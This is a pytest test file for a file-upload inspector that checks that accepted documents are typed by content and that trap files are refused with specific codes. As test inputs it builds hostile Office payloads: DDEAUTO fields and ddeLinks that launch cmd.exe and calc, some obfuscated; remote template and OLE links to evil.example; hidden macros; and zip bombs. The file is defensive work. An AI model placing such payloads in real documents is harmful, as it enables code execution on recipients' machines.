"""The type of a file is found by its content; each trap has a code of its own, and a hostile file hangs nothing."""

import asyncio
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import pytest

from parindex.files import bounded, examining
from parindex.files.inspecting import Inspected, Inspector
from parindex.files.kinds import DOCX, ENDINGS, JPEG, ODS, ODT, PDF, PNG, XLSX, ending_of
from parindex.files.refusals import (
    FileDamagedError,
    FileEncryptedError,
    FileHasMacrosError,
    FileNotScannedError,
    FileStoreAwayError,
    FileTooComplexError,
    PictureTooLargeError,
    may_pass,
)
from parindex.refusal import Refused
from parindex.testing import made_files as making
from parindex.testing.made_files import docx, jpeg, odf, package, pdf, png, xlsx


@dataclass(frozen=True)
class Desk:
    """Where a file is looked at: in this process, or, as a service does it, in one of its own."""

    path: Path

    def examine(self, name: str, content: bytes) -> Inspected:
        self.path.write_bytes(content)
        return Inspected(*examining.examine(self.path, ending_of(name)))

    async def inspect(self, name: str, content: bytes) -> Inspected:
        self.path.write_bytes(content)
        return await Inspector().inspect(self.path, name)


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path / "draft")


def loading(kind: str, target: str) -> dict[str, str | bytes]:
    """Return the part of a DOCX that has it load something."""
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    relation = f'<Relationship Id="r" Type="{types}{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/settings.xml.rels": making.RELATIONS.replace("/>", f">{relation}</Relationships>")}


def with_fields(xml: str, part: str = "word/document.xml", encoding: str = "utf-8", blanks: int = 0) -> bytes:
    """Return a DOCX with this XML in a part; after so many blanks, it has no declaration."""
    main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    begins = " " * blanks or f'<?xml version="1.0" encoding="{encoding}"?>'
    return docx({part: f'{begins}<w:document xmlns:w="{main}">{xml}</w:document>'.encode(encoding)})


BEGIN, END = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def field(*codes: str) -> str:
    """Return a complex field whose code is cut into these pieces."""
    return BEGIN + "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in codes) + END


COMMAND = r' c:\\windows\\system32\\cmd.exe "/k calc.exe"'
DDE_LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
LONG = "<w:p>" + "a" * 2**20


@pytest.mark.parametrize(
    ("name", "content", "media_type", "pages"),
    [
        ("Kế hoạch CCHC.pdf", pdf(3), PDF.media_type, 3),
        ("BÁO CÁO.PDF", pdf(1), PDF.media_type, 1),
        ("ai cũng xem được.pdf", pdf(2, "", "only printing is limited"), PDF.media_type, 2),
        ("ảnh.jpg", jpeg(), JPEG.media_type, 1),
        ("ảnh.jpeg", jpeg(4_000, 3_000), JPEG.media_type, 1),
        ("ảnh chụp.png", png(), PNG.media_type, 1),
        ("công văn.docx", docx(), DOCX.media_type, 0),
        ("biểu.xlsx", xlsx(), XLSX.media_type, 0),
        ("công văn.odt", odf(), ODT.media_type, 0),
        ("biểu.ods", odf(ODS.media_type), ODS.media_type, 0),
        ("mẫu trên máy.docx", docx(loading("attachedTemplate", "file:///C:\\Mau\\a.dotx")), DOCX.media_type, 0),
        ("có đường dẫn.docx", docx(loading("hyperlink", "https://cchc.gov.vn/a")), DOCX.media_type, 0),
        ("có biểu.docx", docx({"word/embeddings/bieu.xlsx": xlsx()}), DOCX.media_type, 0),
        ("số trang.docx", with_fields(field("PAGE") + field(" TOC \\o") + "<w:p>DDEAUTO</w:p>"), DOCX.media_type, 0),
        ("số trang.docx", with_fields('<w:fldSimple w:instr="NUMPAGES"/>' + field("QUOTE DDE")), DOCX.media_type, 0),
        ("nói về ddeLink.xlsx", xlsx({"xl/sharedStrings.xml": "<s>ddeLink, DDEAUTO</s>"}), XLSX.media_type, 0),
        ("ảnh.docx", docx({"word/media/a.bin": b"\x89 instrText ddeLink"}), DOCX.media_type, 0),
    ],
)
def test_an_accepted_type_is_told_by_its_content(
    desk: Desk, name: str, content: bytes, media_type: str, pages: int
) -> None:
    assert desk.examine(name, content) == Inspected(media_type, pages)


def bomb(size: int) -> bytes:
    return docx({"word/media/a.bin": b"\0" * size})


def nested(levels: int) -> bytes:
    made = xlsx()
    for _ in range(levels):
        made = xlsx({"xl/embeddings/a.xlsx": made})
    return made


def many_parts(count: int) -> bytes:
    return docx({f"word/media/{number}": b"" for number in range(count)})


def overlapping() -> bytes:
    """Two entries of the list that share the bytes of one part."""
    made = docx({"word/media/a": bytes(range(256)) * 200})
    listed = made.rfind(b"PK\x01\x02")
    end = made.rfind(b"PK\x05\x06")
    entry = bytearray(made[listed:end])
    name = entry.find(b"word/media/a")
    entry[name : name + 12] = b"word/media/b"
    counts = bytearray(made[end:])
    for at in (8, 10):
        counts[at] += 1
    counts[12:16] = (int.from_bytes(counts[12:16], "little") + len(entry)).to_bytes(4, "little")
    return made[:end] + bytes(entry) + bytes(counts)


VBA = docx({"word/vbaProject.bin": b"\xd0\xcf"})
HIDDEN_VBA = docx(
    {"word/media/image1.png": b"\xd0\xcf"},
    '<Override PartName="/word/media/image1.png" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
)
DTD = docx({"_rels/.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'})
ENCRYPTED_ODF = odf(listed="<m:file-entry><m:encryption-data/></m:file-entry>")
WHOLE_PDF, WHOLE_PNG, WHOLE_DOCX = pdf(), png(), docx()


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("trang.pdf", making.HTML, "file-not-as-named"),
        ("trang.html", making.HTML, "file-type-not-accepted"),
        ("hình.svg", making.SVG, "file-type-not-accepted"),
        ("hình.png", making.SVG, "file-not-as-named"),
        ("ảnh.png", jpeg(), "file-not-as-named"),
        ("văn bản", pdf(), "file-not-as-named"),
        ("văn bản.exe", pdf(), "file-not-as-named"),
        ("biểu.docx", xlsx(), "file-not-as-named"),
        ("gói.zip", package({"a": "b"}), "file-type-not-accepted"),
        ("gói.docx", package({"a": "b"}), "file-not-as-named"),
        ("quét.tif", b"II*\0" + b"\0" * 99, "file-type-not-accepted"),
        ("ảnh.heic", b"\0\0\0\x18ftypheic" + b"\0" * 99, "file-type-not-accepted"),
        ("chương trình.exe", b"MZ" + b"\0" * 99, "file-type-not-accepted"),
        ("cũ.doc", making.OLD_OFFICE, "file-type-not-accepted"),
        ("cũ.docx", making.OLD_OFFICE, "file-not-as-named"),
        ("khóa.docx", making.LOCKED_OFFICE, "file-encrypted"),
        ("khóa.pdf", pdf(1, "mật khẩu"), "file-encrypted"),
        ("khóa.xlsx", making.locked_package(xlsx()), "file-encrypted"),
        ("khóa.odt", ENCRYPTED_ODF, "file-encrypted"),
        ("macro.docm", VBA, "file-has-macros"),
        ("macro.docx", VBA, "file-has-macros"),
        ("macro giấu.docx", HIDDEN_VBA, "file-has-macros"),
        (
            "macro trong biểu.docx",
            docx({"word/embeddings/a.bin": xlsx({"xl/vbaProject.bin": b"a"})}),
            "file-has-macros",
        ),
        ("mẫu ở xa.docx", docx(loading("attachedTemplate", "https://evil.example/a.dotm")), "file-has-macros"),
        ("mẫu ở xa.docx", docx(loading("attachedTemplate", "&#104;ttp://evil.example/a.dotx")), "file-has-macros"),
        ("đối tượng ở xa.docx", docx(loading("oleObject", "mhtml:http://evil.example/a!x")), "file-has-macros"),
        ("macro4.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), "file-has-macros"),
        ("macro.odt", odf(more={"Basic/Standard/Module1.xml": "<a/>"}), "file-has-macros"),
        ("dde.docx", with_fields(field(f"DDEAUTO{COMMAND}")), "file-has-dde-links"),
        ("dde.docx", with_fields(field(f" dde{COMMAND}")), "file-has-dde-links"),
        ("dde cắt.docx", with_fields(field("D", "D", "&#69;AUTO", COMMAND)), "file-has-dde-links"),
        (
            "dde lồng.docx",
            with_fields(field("QUOTE ", f"</w:instrText>{field('DDE a b')}<w:instrText>")),
            "file-has-dde-links",
        ),
        ("dde đơn.docx", with_fields(f"<w:fldSimple w:instr='DDEAUTO{COMMAND}'/>"), "file-has-dde-links"),
        ("dde xóa.docx", with_fields("<w:r><w:delInstrText>DDE a b</w:delInstrText></w:r>"), "file-has-dde-links"),
        ("dde ở đầu trang.docx", with_fields(field("DDE a b"), "word/header1.xml"), "file-has-dde-links"),
        ("dde tên khác.docx", with_fields(field("DDE a b"), "word/media/a.png"), "file-has-dde-links"),
        ("dde utf-16.docx", with_fields(field("DDE a b"), encoding="utf-16"), "file-has-dde-links"),
        ("dde ở xa.docx", with_fields(f"{LONG}</w:p>{field('DDE a b')}"), "file-has-dde-links"),
        ("dde sau ô trống.docx", with_fields(field("DDE a b"), blanks=2**20), "file-has-dde-links"),
        ("dde quanh một thẻ.docx", with_fields(field("D<w:x/>DE a b")), "file-has-dde-links"),
        ("dde.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": DDE_LINK}), "file-has-dde-links"),
        ("dde tên khác.xlsx", xlsx({"xl/a": DDE_LINK.replace("ddeLink", "x:ddeLink")}), "file-has-dde-links"),
        ("dde utf-16.xlsx", xlsx({"xl/a.xml": DDE_LINK.encode("utf-16-be")}), "file-has-dde-links"),
        ("dde trong biểu.docx", docx({"word/a.bin": xlsx({"xl/a.xml": DDE_LINK})}), "file-has-dde-links"),
        ("dde.ods", odf(ODS.media_type, {"content.xml": "<o:dde-source/>"}), "file-has-dde-links"),
        ("trường hỏng.docx", docx({"word/document.xml": "<w:instrText>"}), "file-damaged"),
        ("trường dtd.docx", docx({"word/document.xml": "<!DOCTYPE w><w><instrText/></w>"}), "file-damaged"),
        ("bom.docx", bomb(80 * 2**20), "file-expands-too-much"),
        ("lồng.xlsx", nested(2), "file-expands-too-much"),
        ("nhiều phần.docx", many_parts(5_001), "file-expands-too-much"),
        ("chồng lên nhau.docx", overlapping(), "file-damaged"),
        ("dtd.docx", DTD, "file-damaged"),
        ("lớn.png", png(30_000, 30_000), "picture-too-large"),
        ("dài.jpg", jpeg(30_000, 1), "picture-too-large"),
        ("nhiều điểm.jpg", jpeg(15_000, 15_000), "picture-too-large"),
        ("không.png", png(0, 1), "file-damaged"),
        ("cụt.pdf", WHOLE_PDF[: len(WHOLE_PDF) // 2], "file-damaged"),
        ("rỗng.pdf", b"%PDF-1.7\n%%EOF", "file-damaged"),
        ("không trang.pdf", pdf(0), "file-damaged"),
        ("cụt.png", WHOLE_PNG[:-6], "file-damaged"),
        ("sai.png", WHOLE_PNG.replace(b"IDAT", b"IDAQ"), "file-damaged"),
        ("cụt.jpg", jpeg()[:-2], "file-damaged"),
        ("chỉ có đầu.jpg", b"\xff\xd8\xff\xe0\0\x10", "file-damaged"),
        ("cụt.docx", WHOLE_DOCX[:-30], "file-damaged"),
        ("ghi chú.txt", "Không có gì.".encode(), "file-type-not-accepted"),
    ],
)
def test_each_trap_is_refused_by_its_name(desk: Desk, name: str, content: bytes, code: str) -> None:
    with pytest.raises(Refused) as refused:
        desk.examine(name, content)
    assert refused.value.code == code
    assert refused.value.vi


def test_a_changed_byte_of_a_package_is_seen(desk: Desk) -> None:
    whole = BytesIO()
    with zipfile.ZipFile(whole, "w") as file:
        for name, content in (("[Content_Types].xml", making.TYPES.format("")), ("word/document.xml", "<w>đúng</w>")):
            file.writestr(name, content)
    with pytest.raises(Refused) as refused:
        desk.examine("a.docx", whole.getvalue().replace("đúng".encode(), b"sung".ljust(6)))
    assert refused.value.code == "file-damaged"


async def test_the_process_of_its_own_answers_the_same(desk: Desk) -> None:
    assert await desk.inspect("Kế hoạch.pdf", pdf(3)) == Inspected(PDF.media_type, 3)
    with pytest.raises(PictureTooLargeError) as refused:
        await desk.inspect("lớn.png", png(30_000, 20_000))
    assert "30000 × 20000" in refused.value.vi


async def test_a_pdf_whose_pages_hold_themselves_is_refused_within_the_bounds(desk: Desk) -> None:
    began = time.monotonic()
    with pytest.raises(Refused) as refused:
        await desk.inspect("a.pdf", making.endless_pdf())
    assert refused.value.code in {"file-too-complex", "file-damaged"}
    assert time.monotonic() - began < bounded.WITHIN


def command_lines() -> Iterator[str]:
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):  # ended meanwhile
            yield file.read_text("utf-8", "replace")


def test_an_examination_that_takes_too_long_ends_with_its_process(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounded, "WITHIN", 0.0)
    with pytest.raises(FileTooComplexError):
        asyncio.run(desk.inspect("a.pdf", pdf()))
    assert [line for line in command_lines() if str(desk.path) in line] == []


@pytest.mark.parametrize(
    ("work", "ended"),
    [
        ("bytearray(2**30)", "MemoryError"),
        ("while True: pass", ""),
        ("open(sys.argv[1], 'wb', 0).write(b'x')", "File too large"),
    ],
)
def test_what_opens_a_file_has_bounds_of_memory_time_and_writing(tmp_path: Path, work: str, ended: str) -> None:
    script = f"import sys; from parindex.files import bounds\nbounds.SECONDS = 1\nbounds.bound(0)\n{work}\n"
    command = [sys.executable, "-c", script, str(tmp_path / "written")]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=60)
    assert done.returncode != 0
    assert ended in done.stderr


def test_each_accepted_ending_has_one_type() -> None:
    assert set(ENDINGS) == {".pdf", ".jpg", ".jpeg", ".jfif", ".png", ".docx", ".xlsx", ".odt", ".ods"}


def test_a_refusal_of_the_moment_may_pass_and_one_of_the_file_may_not() -> None:
    assert [may_pass(each) for each in (FileStoreAwayError(), FileNotScannedError(), FileTooComplexError())] == [
        True
    ] * 3
    assert not any(may_pass(each) for each in (FileDamagedError(), FileEncryptedError(), FileHasMacrosError()))
